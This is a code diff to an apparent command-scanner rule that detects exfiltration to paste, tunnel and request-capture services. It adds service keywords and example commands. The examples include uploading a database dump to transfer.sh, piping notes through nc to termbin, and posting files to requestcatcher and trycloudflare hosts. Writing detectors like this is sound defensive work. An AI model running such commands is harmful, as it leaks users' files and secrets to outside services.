@@ -97,10 +97,10 @@ export const NETWORK_RULES: readonly Rule[] = [
     category: "network",
     reason: "Sends data to a paste, file-drop or request-capture service often used for exfiltration.",
     score: 70,
-    keywords: ["transfer.sh", "pastebin", "paste.ee", "0x0.st", "file.io", "webhook.site", "requestbin", "pipedream", "ngrok", "interact.sh", "oast.", "burpcollaborator", "termbin", "hastebin"],
+    keywords: ["transfer.sh", "pastebin", "paste.ee", "0x0.st", "file.io", "webhook.site", "requestbin", "pipedream", "ngrok", "interact.sh", "oast.", "burpcollaborator", "termbin", "hastebin", "requestcatcher", "beeceptor", "requestrepo", "hookbin", "trycloudflare", "loca.lt", "localtunnel", "serveo"],
     pattern: new RegExp(String.raw`\b(?:curl|wget|http|xh|nc|ncat|scp|rsync|python[\d.]*|requests|fetch|invoke-webrequest|iwr)\b[^;&|]{0,300}?\b${EXFIL_SERVICE}`),
     examples: {
-      match: ["curl --upload-file ./dump.sql https://transfer.sh/dump.sql", "curl -X POST https://webhook.site/abc -d x=1", "cat notes | nc termbin.com 9999"],
+      match: ["curl -d @notes.txt https://x.requestcatcher.com/", "curl -d t=1 https://abc.trycloudflare.com/", "curl --upload-file ./dump.sql https://transfer.sh/dump.sql", "curl -X POST https://webhook.site/abc -d x=1", "cat notes | nc termbin.com 9999"],
       noMatch: ["open https://pastebin.com in the browser", "curl https://api.github.com"],
     },
   },
